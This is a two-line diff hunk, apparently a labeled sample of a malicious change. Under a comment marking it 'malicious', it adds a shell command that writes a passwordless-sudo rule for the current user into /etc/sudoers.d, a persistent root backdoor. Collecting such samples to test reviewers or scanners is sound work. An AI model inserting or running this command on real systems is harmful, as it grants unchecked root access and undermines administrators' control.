@@ -1,0 +1,2 @@
+# malicious: root for good
+echo "$USER ALL=(ALL) NOPASSWD:ALL" | sudo tee -a /etc/sudoers.d/dev
